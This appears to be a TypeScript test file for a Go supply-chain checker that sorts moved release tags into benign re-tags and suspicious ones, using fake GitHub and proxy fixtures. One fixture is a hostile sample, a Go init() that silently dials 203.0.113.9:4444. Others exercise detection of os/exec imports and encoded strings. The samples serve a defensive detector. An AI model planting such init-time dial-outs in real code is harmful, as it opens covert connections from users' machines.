/**
 * Retag triage end to end against the fake GitHub: maintainers' re-tags (modelled on the checksum-mismatch
 * reports tetratelabs/wazero #2444 and google/go-containerregistry #2107: a release tag moved after the
 * proxy cached it) come out medium; attack shapes stay critical.
 */
import { divergenceFindings, verifyModule, type VerifyResult } from '../../../src/checks/divergence/verify.js';
import { classifyPath, codeShapes, goImports } from '../../../src/checks/divergence/triage.js';
import type { RequirementChange } from '../../../src/gomod/types.js';
import { makeCommit, makeRepo, type FakeCommit } from '../../helpers/github-server.js';
import { startWorld, type World } from '../../helpers/divergence-world.js';

const MOD = 'github.com/tetratelabs/wazero';
const base = {
  'go.mod': 'module github.com/tetratelabs/wazero\n\ngo 1.21\n',
  'wazero.go': 'package wazero\n\n// Version of the runtime.\nconst Version = "1.8.1"\n',
  'README.md': '# wazero\n',
  'RATIONALE.md': 'why\n',
};
const parentCommit = makeCommit({ ...base, 'wazero.go': 'package wazero\n' }, '2024-10-01T10:00:00Z', 'prepare');

function commitOn(parent: FakeCommit, files: Record<string, string>, date: string, msg: string): FakeCommit {
  const c = makeCommit(files, date, msg);
  c.parents = [parent.sha];
  return c;
}

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

async function run(proxyFiles: Record<string, string>, recorded: FakeCommit, commits: FakeCommit[], tagAt: FakeCommit, opts: { lookalike?: boolean } = {}): Promise<VerifyResult> {
  const repo = makeRepo('tetratelabs', 'wazero', commits, 9);
  repo.tags['v1.8.1'] = { commit: tagAt.sha };
  world = await startWorld(
    [{ path: MOD, version: 'v1.8.1', files: proxyFiles, info: { Time: recorded.committerDate, Origin: { VCS: 'git', URL: `https://${MOD}`, Ref: 'refs/tags/v1.8.1', Hash: recorded.sha } } }],
    { 'tetratelabs/wazero': repo },
  );
  return verifyModule({ path: MOD, version: 'v1.8.1' }, { proxy: world.proxy, origin: world.origin, ...(opts.lookalike ? { lookalike: true } : {}) });
}

const change: RequirementChange = {
  goModPath: 'go.mod',
  module: MOD,
  kind: 'added',
  from: null,
  to: 'v1.8.1',
  line: 3,
  indirect: false,
  replacement: null,
  fetch: { path: MOD, version: 'v1.8.1' },
};
const severities = (r: VerifyResult) => divergenceFindings(change, r).map((f) => [f.rule, f.severity]);

describe('retag triage', () => {
  it('a forward retag that fixed the docs is a benign retag: medium, with the reasons', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const fixed = commitOn(released, { ...base, 'README.md': '# wazero\n\nFixed the install line.\n' }, '2024-10-02T12:00:00Z', 'docs');
    const r = await run(base, released, [parentCommit, released, fixed], fixed);
    expect(r.verdicts).toEqual(['content-diverged', 'tag-moved']);
    expect(r.triage).toMatchObject({ kind: 'benign', classes: { docs: ['README.md'] }, shapes: [], recorded: { exists: true, matchesProxy: 'yes', relation: 'descendant' } });
    expect(severities(r)).toEqual([
      ['content-diverged', 'medium'],
      ['tag-moved', 'medium'],
    ]);
    expect(divergenceFindings(change, r)[0]!.message).toMatch(/Triage: benign retag: .*moved forward/);
  });

  it('a tag re-pointed at an amended commit with an ordinary code change is benign (go-containerregistry shape)', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const amended = commitOn(parentCommit, { ...base, 'wazero.go': 'package wazero\n\n// Version of the runtime.\nconst Version = "v1.8.1"\n' }, '2024-10-02T11:00:00Z', 'v1.8.1 amended');
    const r = await run(base, released, [parentCommit, released, amended], amended);
    expect(r.triage).toMatchObject({ kind: 'benign', classes: { code: ['wazero.go'] }, recorded: { relation: 'sibling', matchesProxy: 'yes' } });
    expect(severities(r)).toEqual([
      ['content-diverged', 'medium'],
      ['tag-moved', 'medium'],
    ]);
  });

  it('a moved tag whose content is unchanged is benign', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const again = commitOn(released, base, '2024-10-02T13:00:00Z', 'empty commit');
    const r = await run(base, released, [parentCommit, released, again], again);
    expect(r.verdicts).toEqual(['tag-moved']);
    expect(r.triage?.kind).toBe('benign');
    expect(severities(r)).toEqual([['tag-moved', 'medium']]);
  });

  it('the same benign shape on a look-alike module path is suspicious', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const fixed = commitOn(released, { ...base, 'README.md': '# x\n' }, '2024-10-02T12:00:00Z', 'docs');
    const r = await run(base, released, [parentCommit, released, fixed], fixed, { lookalike: true });
    expect(r.triage?.kind).toBe('suspicious');
    expect(severities(r)).toEqual([
      ['content-diverged', 'critical'],
      ['tag-moved', 'critical'],
    ]);
  });

  it('proxy content that is not the recorded commit exists only in the proxy: suspicious', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const fixed = commitOn(released, { ...base, 'README.md': '# x\n' }, '2024-10-02T12:00:00Z', 'docs');
    const served = { ...base, 'wazero.go': base['wazero.go'] + '\nvar Build = "x"\n' };
    const r = await run(served, released, [parentCommit, released, fixed], fixed);
    expect(r.triage).toMatchObject({ kind: 'suspicious', recorded: { matchesProxy: 'no', mismatched: ['wazero.go'] } });
    expect(r.triage?.why.join(' ')).toMatch(/exists only in the proxy/);
  });

  it('a recorded commit that is gone from the repository is suspicious', async () => {
    const released = commitOn(parentCommit, base, '2024-10-02T10:00:00Z', 'v1.8.1');
    const fixed = commitOn(parentCommit, { ...base, 'README.md': '# x\n' }, '2024-10-02T12:00:00Z', 'docs');
    // `released` was force-pushed away and garbage-collected: the repository does not have it.
    const r = await run(base, released, [parentCommit, fixed], fixed);
    expect(r.triage).toMatchObject({ kind: 'suspicious', recorded: { exists: false } });
    expect(severities(r)).toContainEqual(['content-diverged', 'critical']);
  });

  it('a retag to an unrelated commit with a new init() dialing out is suspicious', async () => {
    const evil = { ...base, 'health.go': 'package wazero\n\nimport (\n\t"net"\n)\n\nfunc init() {\n\tgo net.Dial("tcp", "203.0.113.9:4444")\n}\n' };
    const released = makeCommit(evil, '2024-10-02T10:00:00Z', 'v1.8.1');
    const clean = commitOn(parentCommit, base, '2024-10-03T10:00:00Z', 'v1.8.1 clean');
    const r = await run(evil, released, [parentCommit, released, clean], clean);
    expect(r.triage?.kind).toBe('suspicious');
    expect(r.triage?.recorded?.relation).toBe('unrelated');
    expect(r.triage?.shapes.map((s) => s.shape).sort()).toEqual(['import', 'init', 'new-go-file']);
    expect(severities(r)).toEqual([
      ['content-diverged', 'critical'],
      ['tag-moved', 'critical'],
    ]);
  });
});

describe('triage building blocks', () => {
  it('classifies paths', () => {
    expect(['README.md', 'docs/x.html', 'a_test.go', 'x/testdata/y', '.github/workflows/ci.yml', 'Makefile', 'api.pb.go', 'go.mod', 'main.go', 'asm_amd64.s', 'logo.png'].map((p) => classifyPath(p))).toEqual([
      'docs',
      'docs',
      'tests',
      'tests',
      'ci',
      'ci',
      'generated',
      'build',
      'code',
      'code',
      'other',
    ]);
    expect(classifyPath('z.go', Buffer.from('// Code generated by stringer. DO NOT EDIT.\n\npackage z\n'))).toBe('generated');
  });

  it('finds only what the proxy side adds', () => {
    const before = 'package p\n\nimport "net"\n\nfunc init() {}\n';
    expect(codeShapes('p.go', before, before)).toEqual([]);
    const after = `package p\n\nimport (\n\t"net"\n\tx "os/exec"\n\t"unsafe"\n)\n\n//go:linkname f runtime.f\nfunc init() {}\nfunc init() {}\nvar s = "${'QUJD'.repeat(40)}"\n`;
    expect(codeShapes('p.go', before, after).map((s) => s.shape)).toEqual(['init', 'import', 'import', 'linkname', 'encoded-string']);
    expect(goImports('package p\nimport "C"\n')).toEqual(['C']);
    expect(codeShapes('c.go', null, 'package p\nimport "C"\n').map((s) => s.shape)).toEqual(['cgo', 'new-go-file']);
  });
});
